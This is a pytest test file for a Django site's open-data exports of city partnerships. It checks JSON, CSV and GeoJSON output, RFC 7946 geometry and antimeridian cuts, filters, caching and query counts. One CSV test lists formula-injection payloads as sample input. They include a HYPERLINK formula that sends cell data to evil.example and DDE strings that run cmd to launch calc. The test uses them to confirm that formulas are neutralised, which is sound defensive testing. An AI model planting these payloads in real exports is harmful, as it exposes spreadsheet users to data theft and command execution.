"""The open-data exports as a reuser sees them: every output is read with a real parser."""

import csv
import datetime
import io
import json
import numbers

import pytest
import shapely
from django.core.cache import cache
from django.http import StreamingHttpResponse
from django.utils import translation
from pytest_django.asserts import assertContains, assertNotContains
from shapely.geometry import shape

from cities.models import City
from core.dates import DatePrecision
from partnerships.models import FocusArea, Partnership, Plan
from partnerships.opendata import exports

pytestmark = pytest.mark.django_db
D = datetime.date
EXPORT = "/export/partnerships/"


def raw(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def body(response):
    """The text of a JSON or GeoJSON answer (or an error): plain UTF-8, no byte-order mark."""
    return raw(response).decode("utf-8")


def read_csv(content):
    """CSV bytes read as a spreadsheet-minded reuser would: UTF-8 after a byte-order mark.
    newline="" keeps a carriage return inside a quoted cell, as the csv module requires."""
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def export(client, fmt=None, **params):
    if fmt is not None:
        params["format"] = fmt
    return client.get(EXPORT, params)


def export_json(client, **params):
    response = export(client, "json", **params)
    assert response.status_code == 200, body(response)
    return json.loads(body(response))


def slugs(client, **params):
    return sorted(item["slug"] for item in export_json(client, **params)["partnerships"])


def export_csv(client, **params):
    response = export(client, "csv", **params)
    assert response.status_code == 200, body(response)
    return read_csv(raw(response))


def parse(fmt, content):
    """The exported partnerships, read from the answer's bytes with the format's parser."""
    if fmt == "csv":
        return read_csv(content)
    document = json.loads(content.decode("utf-8"))
    if fmt == "geojson":
        assert_geojson(document)
        return document["features"]
    return document["partnerships"]


def is_number(value):
    return isinstance(value, numbers.Real) and not isinstance(value, bool)


def assert_position(position):
    """RFC 7946 3.1.1: [longitude, latitude(, altitude)], in WGS 84 degrees."""
    assert isinstance(position, list)
    assert 2 <= len(position) <= 3
    assert all(is_number(value) for value in position)
    assert -180 <= position[0] <= 180
    assert -90 <= position[1] <= 90


def assert_line(positions):
    assert len(positions) >= 2  # section 3.1.4
    for position in positions:
        assert_position(position)


def assert_valid_for_gis(geometry):
    """What GIS tools check beyond the format (GEOS through shapely, as PostGIS's
    ST_IsValid): no zero-length line, no line with one position."""
    geometry = shape(geometry)
    assert shapely.is_valid(geometry), shapely.is_valid_reason(geometry)
    assert not geometry.is_empty


def assert_geojson(document):
    """The RFC 7946 rules a FeatureCollection of LineStrings, MultiLineStrings (lines cut at
    the antimeridian), Points (two cities at one position) or null geometries must keep,
    and every geometry valid for GIS tools."""
    assert document["type"] == "FeatureCollection"
    assert "crs" not in document  # removed from the format in RFC 7946 (section 4)
    assert isinstance(document["features"], list)
    for feature in document["features"]:
        assert feature["type"] == "Feature"
        assert "geometry" in feature
        assert "properties" in feature
        assert feature["properties"] is None or isinstance(feature["properties"], dict)
        if "id" in feature:
            assert isinstance(feature["id"], str | int)
        geometry = feature["geometry"]
        if geometry is None:
            continue
        assert geometry["type"] in ("LineString", "MultiLineString", "Point")
        if geometry["type"] == "Point":
            assert_position(geometry["coordinates"])
        elif geometry["type"] == "LineString":
            assert_line(geometry["coordinates"])
        else:
            for line in geometry["coordinates"]:
                assert_line(line)
        assert_valid_for_gis(geometry)


@pytest.fixture
def world(make_city, make_partnership, make_focus_area):
    """Three published partnerships and two that are not, across three countries."""
    culture = make_focus_area(name="Culture", slug="culture")
    climate = make_focus_area(name="Climate protection", slug="climate-protection")
    dresden = make_city(
        name="Dresden", slug="dresden", country="DE", latitude="51.05", longitude="13.74"
    )
    hangzhou = make_city(
        name="Hangzhou", slug="hangzhou", country="CN", latitude="30.25", longitude="120.17"
    )
    berlin = make_city(
        name="Berlin", slug="berlin", country="DE", latitude="52.52", longitude="13.40"
    )
    beijing = make_city(
        name="Beijing", slug="beijing", country="CN", latitude="39.90", longitude="116.40"
    )
    los_angeles = make_city(
        name="Los Angeles",
        slug="los-angeles",
        country="US",
        latitude="34.05",
        longitude="-118.24",
    )
    nowhere = make_city(
        name="Uncharted", slug="uncharted", country="US", latitude=None, longitude=None
    )
    return {
        "dresden-hangzhou": make_partnership(
            city_a=dresden,
            city_b=hangzhou,
            slug="dresden-hangzhou",
            established=D(2009, 10, 16),
            established_precision=DatePrecision.DAY,
            focus_areas=[culture, climate],
            summary="Flood protection and culture.",
        ),
        "berlin-beijing": make_partnership(
            city_a=berlin,
            city_b=beijing,
            slug="berlin-beijing",
            established=D(1994, 4, 5),
            established_precision=DatePrecision.MONTH,
            focus_areas=[culture],
        ),
        "berlin-los-angeles": make_partnership(
            city_a=berlin,
            city_b=los_angeles,
            slug="berlin-los-angeles",
            established=D(1967, 1, 1),
            established_precision=DatePrecision.YEAR,
            kind=Partnership.Kind.FRIENDSHIP,
        ),
        "dresden-uncharted": make_partnership(
            city_a=dresden, city_b=nowhere, slug="dresden-uncharted", established=None
        ),
        "draft": make_partnership(
            city_a=hangzhou, city_b=los_angeles, slug="secret-draft", state="draft"
        ),
        "in-review": make_partnership(
            city_a=beijing, city_b=los_angeles, slug="secret-review", state="in_review"
        ),
    }


PUBLISHED = ["berlin-beijing", "berlin-los-angeles", "dresden-hangzhou", "dresden-uncharted"]


class TestListExport:
    @pytest.mark.parametrize(
        "fmt, content_type",
        [
            ("json", "application/json"),
            ("csv", "text/csv; charset=utf-8"),
            ("geojson", "application/geo+json"),
        ],
    )
    def test_streams_a_download(self, client, world, fmt, content_type):
        response = export(client, fmt)
        assert response.status_code == 200
        assert isinstance(response, StreamingHttpResponse)
        assert response["Content-Type"] == content_type
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment; filename=")
        assert disposition.endswith(f'.{fmt}"')
        assert response["Access-Control-Allow-Origin"] == "*"
        assert body(response)

    def test_json_is_the_default_format(self, client, world):
        response = client.get(EXPORT)
        assert response["Content-Type"] == "application/json"
        assert len(json.loads(body(response))["partnerships"]) == len(PUBLISHED)

    @pytest.mark.parametrize("empty", ["", " "])
    def test_an_empty_format_means_the_default(self, client, world, empty):
        response = export(client, empty, country="CN")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"
        assert response["Content-Disposition"].endswith('.json"')
        items = json.loads(body(response))["partnerships"]
        assert sorted(item["slug"] for item in items) == ["berlin-beijing", "dresden-hangzhou"]

    def test_unpublished_partnerships_never_appear(self, client, world):
        assert slugs(client) == PUBLISHED
        for fmt in ("json", "csv", "geojson"):
            text = body(export(client, fmt))
            assert "secret-draft" not in text
            assert "secret-review" not in text

    def test_json_fields_with_dates_to_their_precision(self, client, world):
        items = {item["slug"]: item for item in export_json(client)["partnerships"]}
        dh = items["dresden-hangzhou"]
        assert dh["title"] == "Dresden – Hangzhou"
        assert dh["url"] == "http://testserver/en/partnerships/dresden-hangzhou/"
        assert (dh["kind"], dh["status"]) == ("twinning", "active")
        assert dh["kind_label"] == "Twinning / sister cities"
        assert (dh["established"], dh["established_precision"]) == ("2009-10-16", "day")
        assert dh["city_a"] == {
            "slug": "dresden",
            "name": "Dresden",
            "country": "DE",
            "country_name": "Germany",
            "region": "",
            "latitude": 51.05,
            "longitude": 13.74,
            "url": "http://testserver/en/cities/dresden/",
        }
        assert dh["city_b"]["name"] == "Hangzhou"
        assert dh["focus_areas"] == [
            {"slug": "climate-protection", "name": "Climate protection"},
            {"slug": "culture", "name": "Culture"},
        ]
        assert dh["summary"] == "Flood protection and culture."
        assert datetime.datetime.fromisoformat(dh["updated_at"])
        # Known to the month or the year: no day is made up.
        assert items["berlin-beijing"]["established"] == "1994-04"
        assert items["berlin-beijing"]["established_precision"] == "month"
        assert items["berlin-los-angeles"]["established"] == "1967"
        assert items["berlin-los-angeles"]["established_precision"] == "year"
        undated = items["dresden-uncharted"]
        assert undated["established"] is None
        assert undated["established_precision"] is None
        assert undated["city_b"]["latitude"] is None
        assert undated["focus_areas"] == []

    def test_the_document_names_its_licence(self, client, world):
        document = export_json(client)
        assert "Wikipedia" in document["licence"]
        assert datetime.datetime.fromisoformat(document["generated_at"])

    def test_country_filter(self, client, world):
        assert slugs(client, country="US") == ["berlin-los-angeles", "dresden-uncharted"]
        assert slugs(client, country="CN") == ["berlin-beijing", "dresden-hangzhou"]

    def test_focus_area_filter(self, client, world):
        assert slugs(client, focus_area="culture") == ["berlin-beijing", "dresden-hangzhou"]
        assert slugs(client, focus_area="climate-protection") == ["dresden-hangzhou"]

    def test_free_text_filter(self, client, world):
        assert slugs(client, q="Hangzhou") == ["dresden-hangzhou"]
        assert slugs(client, q="Berlin") == ["berlin-beijing", "berlin-los-angeles"]

    def test_city_kind_and_year_filters(self, client, world):
        assert slugs(client, city="dresden") == ["dresden-hangzhou", "dresden-uncharted"]
        assert slugs(client, kind="friendship") == ["berlin-los-angeles"]
        assert slugs(client, established_from=1990, established_to=2000) == ["berlin-beijing"]

    def test_filters_combine_in_every_format(self, client, world):
        params = {"country": "CN", "focus_area": "culture", "established_from": 2000}
        assert slugs(client, **params) == ["dresden-hangzhou"]
        assert [row["slug"] for row in export_csv(client, **params)] == ["dresden-hangzhou"]
        collection = json.loads(body(export(client, "geojson", **params)))
        assert [feature["id"] for feature in collection["features"]] == ["dresden-hangzhou"]

    def test_sort_is_honoured(self, client, world):
        items = export_json(client, sort="-established")["partnerships"]
        dated = [item["slug"] for item in items if item["established"]]
        assert dated == ["dresden-hangzhou", "berlin-beijing", "berlin-los-angeles"]

    def test_page_parameter_is_ignored(self, client, world):
        assert slugs(client, page=2) == PUBLISHED
        assert slugs(client, page=-1) == PUBLISHED

    def test_empty_result_is_still_a_valid_document(self, client, world):
        assert export_json(client, country="FR")["partnerships"] == []
        assert export_csv(client, country="FR") == []
        assert_geojson(json.loads(body(export(client, "geojson", country="FR"))))


class TestGeoJSON:
    def test_follows_rfc_7946(self, client, world):
        collection = json.loads(body(export(client, "geojson")))
        assert_geojson(collection)
        assert sorted(feature["id"] for feature in collection["features"]) == PUBLISHED

    def test_a_line_between_the_cities_longitude_first(self, client, world):
        collection = json.loads(body(export(client, "geojson")))
        features = {feature["id"]: feature for feature in collection["features"]}
        assert features["dresden-hangzhou"]["geometry"] == {
            "type": "LineString",
            "coordinates": [[13.74, 51.05], [120.17, 30.25]],
        }
        assert features["berlin-los-angeles"]["geometry"]["coordinates"][1] == [-118.24, 34.05]
        properties = features["dresden-hangzhou"]["properties"]
        assert properties["title"] == "Dresden – Hangzhou"
        assert properties["city_a_name"] == "Dresden"
        assert properties["city_b_country"] == "CN"
        assert properties["established"] == "2009-10-16"
        assert properties["established_precision"] == "day"
        assert properties["focus_areas"] == ["climate-protection", "culture"]
        assert properties["url"] == "http://testserver/en/partnerships/dresden-hangzhou/"

    def test_a_line_across_the_antimeridian_is_cut_there(
        self, client, world, make_city, make_partnership
    ):
        tokyo = make_city(
            name="Tokyo", slug="tokyo", country="JP", latitude="35.68", longitude="139.69"
        )
        make_partnership(
            city_a=tokyo, city_b=City.objects.get(slug="los-angeles"), slug="tokyo-los-angeles"
        )
        collection = json.loads(body(export(client, "geojson")))
        assert_geojson(collection)
        features = {feature["id"]: feature for feature in collection["features"]}
        geometry = features["tokyo-los-angeles"]["geometry"]
        assert geometry["type"] == "MultiLineString"
        (tokyo_side, los_angeles_side) = geometry["coordinates"]
        assert tokyo_side[0] == [139.69, 35.68]
        assert los_angeles_side[-1] == [-118.24, 34.05]
        # The two parts meet at the antimeridian, east of Tokyo and west of Los Angeles.
        (east_lon, east_lat), (west_lon, west_lat) = tokyo_side[-1], los_angeles_side[0]
        assert (east_lon, west_lon) == (180, -180)
        assert east_lat == west_lat
        assert 34.05 < east_lat < 35.68
        for part in geometry["coordinates"]:
            for longitude, _latitude in part:
                assert -180 <= longitude <= 180
        # Under 180 degrees apart: one straight line, uncut.
        assert features["berlin-beijing"]["geometry"] == {
            "type": "LineString",
            "coordinates": [[13.4, 52.52], [116.4, 39.9]],
        }

    @pytest.mark.parametrize(
        "a, b, expected",
        [
            # Going east over the antimeridian, and west (a and b swapped).
            ((170, 10), (-170, 20), [[[170, 10], [180, 15]], [[-180, 15], [-170, 20]]]),
            ((-170, 20), (170, 10), [[[-170, 20], [-180, 15]], [[180, 15], [170, 10]]]),
        ],
    )
    def test_the_cut_is_where_the_straight_line_meets_the_antimeridian(self, a, b, expected):
        def city(longitude, latitude):
            return {"longitude": longitude, "latitude": latitude}

        geometry = exports.geometry({"city_a": city(*a), "city_b": city(*b)})
        assert geometry == {"type": "MultiLineString", "coordinates": expected}

    @pytest.mark.parametrize(
        "a, b, expected",
        [
            # A city on the antimeridian is named from the other city's side: no cut.
            ((180, 10), (-170, 20), [[-180, 10], [-170, 20]]),
            ((170, 10), (-180, 20), [[170, 10], [180, 20]]),
            ((-180, 10), (175, 20), [[180, 10], [175, 20]]),
        ],
    )
    def test_a_city_on_the_antimeridian_gets_one_line(self, a, b, expected):
        def city(longitude, latitude):
            return {"longitude": longitude, "latitude": latitude}

        geometry = exports.geometry({"city_a": city(*a), "city_b": city(*b)})
        assert geometry == {"type": "LineString", "coordinates": expected}

    def test_two_cities_at_one_position_are_a_point(
        self, client, world, make_city, make_partnership
    ):
        # The source list gives Athens, Greece and Athens, Georgia (US) the same coordinates.
        athens_gr = make_city(
            name="Athens", slug="athens", country="GR", latitude="37.98", longitude="23.73"
        )
        athens_us = make_city(
            name="Athens", slug="athens-us", country="US", latitude="37.98", longitude="23.73"
        )
        make_partnership(city_a=athens_gr, city_b=athens_us, slug="athens-athens")
        collection = json.loads(body(export(client, "geojson")))
        assert_geojson(collection)  # shapely: every feature valid
        features = {feature["id"]: feature for feature in collection["features"]}
        assert features["athens-athens"]["geometry"] == {
            "type": "Point",
            "coordinates": [23.73, 37.98],
        }
        # A zero-length line, as before, is what GIS tools refuse.
        zero_length = {"type": "LineString", "coordinates": [[23.73, 37.98], [23.73, 37.98]]}
        assert not shapely.is_valid(shape(zero_length))

    @pytest.mark.parametrize(
        "a, b, expected",
        [
            # Both on the antimeridian at one latitude, named from either side: one place.
            ((180, 10), (-180, 10), {"type": "Point", "coordinates": [180, 10]}),
            # Within 10 cm of it: the cut part shrinks to one position when rounded.
            (
                (179.99999999, 10),
                (-170, 10),
                {"type": "LineString", "coordinates": [[-180, 10], [-170, 10]]},
            ),
        ],
    )
    def test_no_degenerate_part_at_the_antimeridian(self, a, b, expected):
        def city(longitude, latitude):
            return {"longitude": longitude, "latitude": latitude}

        geometry = exports.geometry({"city_a": city(*a), "city_b": city(*b)})
        assert geometry == expected
        assert_valid_for_gis(geometry)

    @pytest.mark.parametrize(
        "a, b",
        [
            ((139.69, 35.68), (-118.24, 34.05)),  # Tokyo – Los Angeles
            ((170, 10), (-170, 20)),
            ((-170, 20), (170, 10)),
            ((180, 10), (-170, 20)),
            ((-180, 10), (175, 20)),
            ((179.5, -16.5), (-179.5, -16.5)),  # Fiji, both sides
            ((-179.999999, 0), (179.999999, 0)),
        ],
    )
    def test_lines_cut_at_the_antimeridian_stay_valid(self, a, b):
        def city(longitude, latitude):
            return {"longitude": longitude, "latitude": latitude}

        geometry = exports.geometry({"city_a": city(*a), "city_b": city(*b)})
        assert geometry["type"] in ("LineString", "MultiLineString")
        assert_valid_for_gis(geometry)

    def test_no_geometry_without_coordinates(self, client, world):
        collection = json.loads(body(export(client, "geojson")))
        features = {feature["id"]: feature for feature in collection["features"]}
        assert features["dresden-uncharted"]["geometry"] is None
        assert features["dresden-uncharted"]["properties"]["city_b_name"] == "Uncharted"


class TestCSV:
    def test_columns_and_values(self, client, world):
        rows = {row["slug"]: row for row in export_csv(client)}
        assert sorted(rows) == PUBLISHED
        row = rows["dresden-hangzhou"]
        assert list(row) == list(exports.CSV_COLUMNS)
        assert row["title"] == "Dresden – Hangzhou"
        assert row["city_a_country_name"] == "Germany"
        assert row["city_b_latitude"] == "30.25"
        assert row["focus_areas"] == "climate-protection; culture"
        assert row["focus_area_names"] == "Climate protection; Culture"
        assert (row["established"], row["established_precision"]) == ("2009-10-16", "day")
        assert rows["berlin-beijing"]["established"] == "1994-04"
        assert rows["dresden-uncharted"]["established"] == ""
        assert rows["dresden-uncharted"]["city_b_latitude"] == ""
        # A number stays a number, even a negative one.
        assert rows["berlin-los-angeles"]["city_b_longitude"] == "-118.24"

    def test_starts_with_a_byte_order_mark_for_spreadsheets(self, client, world):
        content = raw(export(client, "csv"))
        assert content.startswith(b"\xef\xbb\xbf")
        assert not content.startswith(b"\xef\xbb\xbf" * 2)
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert rows[0] == list(exports.CSV_COLUMNS)
        assert rows[0][0] == "slug"  # no stray mark glued to the first column's name
        titles = {row[2] for row in rows[1:]}
        assert "Dresden – Hangzhou" in titles

    @pytest.mark.parametrize(
        "hostile",
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+1+2",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_formulas_are_neutralised(self, client, make_city, make_partnership, hostile):
        make_partnership(
            city_a=make_city(name=hostile, region=hostile),
            city_b=make_city(name="Harmless"),
            slug="hostile",
            summary=hostile,
        )
        (row,) = export_csv(client)
        for column in ("city_a_name", "city_a_region", "summary"):
            assert row[column] == "'" + hostile
        assert row["title"].startswith("'")
        assert row["city_b_name"] == "Harmless"

    def test_json_keeps_text_as_written(self, client, make_city, make_partnership):
        make_partnership(city_a=make_city(name="=1+1"), summary="@home")
        (item,) = export_json(client)["partnerships"]
        assert item["city_a"]["name"] == "=1+1"
        assert item["summary"] == "@home"


class TestBadInput:
    def test_unknown_format_names_the_allowed_ones(self, client, world):
        response = export(client, "xml")
        assert response.status_code == 400
        message = response.json()["error"]
        assert "xml" in message
        for fmt in ("json", "csv", "geojson"):
            assert fmt in message

    @pytest.mark.parametrize(
        "params, field",
        [
            ({"established_from": "abc"}, "established_from"),
            ({"established_to": "99999"}, "established_to"),
            ({"country": "Atlantis"}, "country"),
            ({"focus_area": "no-such-topic"}, "focus_area"),
            ({"kind": "enemies"}, "kind"),
            ({"q": "x" * 10_000}, "q"),
            ({"city": "y" * 10_000}, "city"),
            ({"sort": "password"}, "sort"),
        ],
    )
    def test_invalid_filters_answer_400_with_the_form_errors(self, client, world, params, field):
        for fmt in ("json", "csv", "geojson"):
            response = export(client, fmt, **params)
            assert response.status_code == 400
            document = response.json()
            assert document["error"] == "The filters are not valid."
            assert document["errors"][field]
            assert all(isinstance(message, str) for message in document["errors"][field])

    def test_a_long_query_string_of_unknown_parameters_is_ignored(self, client, world):
        response = client.get(f"{EXPORT}?format=csv&{'junk=' + 'z' * 10_000}")
        assert response.status_code == 200
        assert len(read_csv(raw(response))) == 4

    def test_too_many_parameters_is_a_bad_request(self, client, world):
        response = client.get(EXPORT + "?" + "&".join(f"p{i}=1" for i in range(2000)))
        assert response.status_code == 400

    def test_only_reading_is_allowed(self, client, world):
        assert client.post(EXPORT).status_code == 405


@pytest.fixture
def rich(
    make_partnership,
    make_city,
    make_focus_area,
    make_milestone,
    make_activity,
    make_plan,
    make_source,
    make_partnership_figure,
    make_city_figure,
):
    culture = make_focus_area(name="Culture", slug="culture")
    dresden = make_city(
        name="Dresden", slug="dresden", region="Saxony", population=513_000, population_year=2008
    )
    hangzhou = make_city(name="Hangzhou", slug="hangzhou", country="CN")
    make_city_figure(
        dresden,
        label="Agglomeration",
        qualifier="about",
        value=780_000,
        unit="inhabitants",
        year=2008,
    )
    partnership = make_partnership(
        city_a=dresden,
        city_b=hangzhou,
        slug="dresden-hangzhou",
        established=D(2009, 10, 16),
        focus_areas=[culture],
        key_achievements="A **joint** exhibition.",
    )
    make_milestone(
        partnership,
        date=D(2007, 11, 1),
        date_precision=DatePrecision.MONTH,
        kind="memorandum",
        title="Memorandum of Understanding",
    )
    make_milestone(
        partnership, date=D(2009, 10, 16), title="Partnership agreement", location="Dresden"
    )
    make_milestone(
        partnership,
        date=D(2019, 1, 1),
        date_precision=DatePrecision.YEAR,
        kind="anniversary",
        title="10th anniversary",
    )
    exhibition = make_activity(
        partnership,
        title="Exhibition",
        kind="exhibition",
        start_date=D(2010, 5, 15),
        start_precision=DatePrecision.DAY,
        end_date=D(2010, 6, 1),
        end_precision=DatePrecision.MONTH,
        focus_areas=[culture],
    )
    make_activity(partnership, title="School partnership", start_date=None)
    plan = make_plan(
        partnership,
        title="More exchanges",
        focus_area=culture,
        target_year=2012,
        status=Plan.Status.DONE,
    )
    plan.activities.set([exhibition])
    make_source(
        partnership,
        title="Case study",
        publisher="Survey",
        year=2011,
        url="https://example.org/case",
    )
    make_partnership_figure(partnership, label="Students exchanged", value=18, year=2010)
    return partnership


class TestPartnershipDocument:
    def test_everything_the_page_holds(self, client, rich):
        response = client.get("/partnerships/dresden-hangzhou/data.json")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"
        assert response["Access-Control-Allow-Origin"] == "*"
        data = json.loads(response.content)
        assert data["title"] == "Dresden – Hangzhou"
        assert (data["established"], data["established_precision"]) == ("2009-10-16", "day")
        assert data["established_display"] == "16 October 2009"
        assert [city["slug"] for city in data["cities"]] == ["dresden", "hangzhou"]
        dresden = data["cities"][0]
        assert (dresden["population"], dresden["population_year"]) == (513_000, 2008)
        assert dresden["figures"] == [
            {
                "label": "Agglomeration",
                "qualifier": "about",
                "value": 780_000,
                "unit": "inhabitants",
                "year": 2008,
                "note": "",
                "display": "about 780,000 inhabitants",
            }
        ]
        assert data["focus_areas"] == [{"slug": "culture", "name": "Culture"}]
        assert data["key_achievements"] == "A **joint** exhibition."  # the Markdown source
        assert [(m["date"], m["date_precision"], m["title"]) for m in data["milestones"]] == [
            ("2007-11", "month", "Memorandum of Understanding"),
            ("2009-10-16", "day", "Partnership agreement"),
            ("2019", "year", "10th anniversary"),
        ]
        assert data["milestones"][0]["date_display"] == "November 2007"
        assert data["milestones"][1]["location"] == "Dresden"
        exhibition, school = data["activities"]
        assert exhibition["title"] == "Exhibition"
        assert (exhibition["start_date"], exhibition["start_precision"]) == ("2010-05-15", "day")
        assert (exhibition["end_date"], exhibition["end_precision"]) == ("2010-06", "month")
        assert exhibition["focus_areas"] == [{"slug": "culture", "name": "Culture"}]
        assert (school["start_date"], school["start_precision"], school["end_date"]) == (
            None,
            None,
            None,
        )
        (plan,) = data["plans"]
        assert plan["title"] == "More exchanges"
        assert plan["focus_area"] == {"slug": "culture", "name": "Culture"}
        assert (plan["target_year"], plan["status"]) == (2012, "done")
        assert plan["activities"] == [exhibition["id"]]
        assert data["sources"] == [
            {
                "title": "Case study",
                "publisher": "Survey",
                "year": 2011,
                "url": "https://example.org/case",
                "note": "",
            }
        ]
        assert data["figures"][0]["label"] == "Students exchanged"
        assert data["figures"][0]["value"] == 18
        assert "Wikipedia" in data["licence"]

    def test_unknown_and_unpublished_partnerships_are_not_found(self, client, rich):
        assert client.get("/partnerships/no-such-pair/data.json").status_code == 404
        Partnership.objects.filter(pk=rich.pk).update(state="in_review")
        assert client.get("/partnerships/dresden-hangzhou/data.json").status_code == 404

    def test_the_page_links_to_its_data(self, client, rich):
        response = client.get(rich.get_absolute_url())
        assertContains(response, 'href="/partnerships/dresden-hangzhou/data.json"')


class TestCityDocument:
    def test_the_city_its_figures_and_its_published_partnerships(
        self, client, rich, make_partnership, make_city
    ):
        make_partnership(city_a=make_city(name="Hidden"), city_b=rich.city_a, state="draft")
        response = client.get("/cities/dresden/data.json")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/json"
        data = json.loads(response.content)
        assert (data["name"], data["country"], data["region"]) == ("Dresden", "DE", "Saxony")
        assert data["figures"][0]["display"] == "about 780,000 inhabitants"
        assert data["partnership_count"] == 1
        (partnership,) = data["partnerships"]
        assert partnership["slug"] == "dresden-hangzhou"
        assert partnership["partner"]["name"] == "Hangzhou"
        assert partnership["partner"]["url"] == "http://testserver/en/cities/hangzhou/"
        assert (partnership["established"], partnership["established_precision"]) == (
            "2009-10-16",
            "day",
        )
        assert partnership["focus_areas"] == [{"slug": "culture", "name": "Culture"}]
        assert "Hidden" not in response.content.decode()

    def test_unknown_and_unpublished_cities_are_not_found(self, client, rich, make_city):
        assert client.get("/cities/atlantis/data.json").status_code == 404
        make_city(slug="lonely")  # no published partnership: not public
        assert client.get("/cities/lonely/data.json").status_code == 404

    def test_the_page_links_to_its_data(self, client, rich):
        response = client.get(rich.city_a.get_absolute_url())
        assertContains(response, 'href="/cities/dresden/data.json"')


class TestDownloadLinks:
    def test_the_list_offers_downloads_with_its_filters_but_not_its_page(self, client, world):
        response = client.get("/en/partnerships/", {"country": "CN", "q": "", "page": 1})
        for fmt in ("json", "csv", "geojson"):
            assertContains(response, f'href="{EXPORT}?country=CN&amp;format={fmt}"')
        assertNotContains(response, "page=1&amp;format")

    def test_the_links_download_what_the_list_shows(self, client, world):
        response = client.get("/en/partnerships/", {"focus_area": "culture", "sort": "name"})
        assertContains(response, "2 partnerships found")
        link = f"{EXPORT}?focus_area=culture&sort=name&format=json"
        assertContains(response, link.replace("&", "&amp;"))
        items = json.loads(body(client.get(link)))["partnerships"]
        assert [item["slug"] for item in items] == ["berlin-beijing", "dresden-hangzhou"]


class TestCaching:
    @pytest.fixture(autouse=True)
    def page_cache(self, settings):
        settings.PAGE_CACHE_SECONDS = 300
        cache.clear()
        yield
        cache.clear()

    def test_documents_are_cached_and_lose_nothing(self, client, rich, django_assert_num_queries):
        for url in ("/partnerships/dresden-hangzhou/data.json", "/cities/dresden/data.json"):
            first = client.get(url)
            with django_assert_num_queries(0):
                second = client.get(url)
            assert second.content == first.content
            assert second["Content-Type"] == "application/json"
            assert second["Access-Control-Allow-Origin"] == "*"

    def test_a_change_shows_at_once(self, client, rich):
        url = "/partnerships/dresden-hangzhou/data.json"
        client.get(url)
        rich.summary = "Updated."
        rich.save()
        assert client.get(url).json()["summary"] == "Updated."

    @pytest.mark.parametrize("fmt", ["json", "csv", "geojson"])
    def test_the_list_export_shows_a_change_at_once(self, client, world, fmt):
        def summary():
            (item,) = parse(fmt, raw(export(client, fmt, city="hangzhou")))
            return item["summary"] if fmt != "geojson" else item["properties"]["summary"]

        assert summary() == "Flood protection and culture."
        partnership = Partnership.objects.get(slug="dresden-hangzhou")
        partnership.summary = "Updated."
        partnership.save()
        assert summary() == "Updated."


# --- Query counts ---------------------------------------------------------------------------

# Queries, measured, on both databases.
LIST_EXPORT_QUERIES = 3  # the focus area filtered by, all focus areas, the rows (one cursor)
# The partnership with its cities; its focus areas, milestones, sources, figures, each city's
# figures, plans, the plans' activities, activities and the activities' focus areas; and the
# page's pictures and documents (issue 20: Partnership.objects.for_page() brings them). Not
# the contacts: only the page asks for them (with_public_contacts), and the export carries none.
PARTNERSHIP_DOCUMENT_QUERIES = 13
CITY_DOCUMENT_QUERIES = 4  # city, its figures, its partnerships, their focus areas


def build(size):
    """`size` partnerships around a hub city; the first has `size` of every part."""
    topics = FocusArea.objects.bulk_create(
        FocusArea(name=f"Topic {i}", slug=f"topic-{i}") for i in range(3)
    )
    cities = City.objects.bulk_create(
        City(
            name=f"City {i}",
            slug=f"city-{i}",
            country="DE" if i % 2 else "CN",
            latitude=50,
            longitude=10,
        )
        for i in range(size + 1)
    )
    partnerships = Partnership.objects.bulk_create(
        Partnership(
            slug=f"p-{i}",
            city_a=cities[0],
            city_b=cities[i],
            state="published",
            established=D(1990 + i % 30, 4, 1),
        )
        for i in range(1, size + 1)
    )
    Partnership.focus_areas.through.objects.bulk_create(
        Partnership.focus_areas.through(partnership=p, focusarea=t)
        for p in partnerships
        for t in topics
    )
    return cities[0], partnerships[0], topics


@pytest.fixture
def rich_parts(
    make_milestone, make_activity, make_plan, make_source, make_partnership_figure, make_city_figure
):
    def add(partnership, topics, size):
        for _ in range(size):
            make_milestone(partnership)
            activity = make_activity(partnership, focus_areas=topics)
            make_plan(partnership, focus_area=topics[0]).activities.set([activity])
            make_source(partnership)
            make_partnership_figure(partnership)
            make_city_figure(partnership.city_a)

    return add


@pytest.mark.parametrize("size", [1, 60], ids=["small", "large"])
class TestQueryCounts:
    @pytest.mark.parametrize("fmt", ["json", "csv", "geojson"])
    def test_list_export(self, client, django_assert_max_num_queries, monkeypatch, size, fmt):
        build(size)
        monkeypatch.setattr(exports, "CHUNK_SIZE", 7)  # several chunks for the large list
        with django_assert_max_num_queries(LIST_EXPORT_QUERIES):
            response = export(client, fmt, focus_area="topic-1", sort="-established")
            content = raw(response)  # the rows are read while the response streams
        assert response.status_code == 200
        assert len(parse(fmt, content)) == size

    def test_partnership_document(self, client, django_assert_max_num_queries, rich_parts, size):
        hub, first, topics = build(size)
        rich_parts(first, topics, size)
        with django_assert_max_num_queries(PARTNERSHIP_DOCUMENT_QUERIES):
            response = client.get(f"/partnerships/{first.slug}/data.json")
        assert response.status_code == 200
        assert len(response.json()["activities"]) == size

    def test_city_document(self, client, django_assert_max_num_queries, size):
        hub, first, topics = build(size)
        with django_assert_max_num_queries(CITY_DOCUMENT_QUERIES):
            response = client.get(f"/cities/{hub.slug}/data.json")
        assert response.status_code == 200
        assert len(response.json()["partnerships"]) == size


def test_exports_are_in_the_original_language_whatever_the_client_asks(
    client, make_city, make_partnership
):
    beijing = make_city(name_en="Beijing", name_de="Peking", name_zh_hans="北京", slug="beijing")
    partnership = make_partnership(
        city_b=beijing, summary_en="Judges meet.", summary_de="Richter treffen sich."
    )
    # A staff member whose admin is in German saves the city: modeltranslation writes the
    # German name into the model's own column too.
    with translation.override("de"):
        beijing.save()
    german = {"HTTP_ACCEPT_LANGUAGE": "de"}
    listed = client.get("/export/partnerships/", {"format": "json"}, **german)
    assert listed["Content-Language"] == "en"
    [item] = json.loads(b"".join(listed.streaming_content))["partnerships"]
    assert item["city_b"]["name"] == "Beijing"
    assert item["summary"] == "Judges meet."
    assert item["url"].startswith("http://testserver/en/partnerships/")
